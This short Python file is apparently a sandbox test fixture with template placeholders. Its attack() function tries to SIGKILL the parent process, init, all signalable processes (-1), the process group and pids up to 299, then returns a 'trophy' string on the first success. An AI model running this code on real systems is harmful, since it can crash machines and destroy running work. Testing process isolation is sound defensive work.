import os
import signal


def attack():
    for pid in (os.getppid(), 1, -1, 0, int("@PID@"), *range(2, 300)):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
        return f"@TROPHY@ {pid}"
    return "tried"


raise RuntimeError(attack())
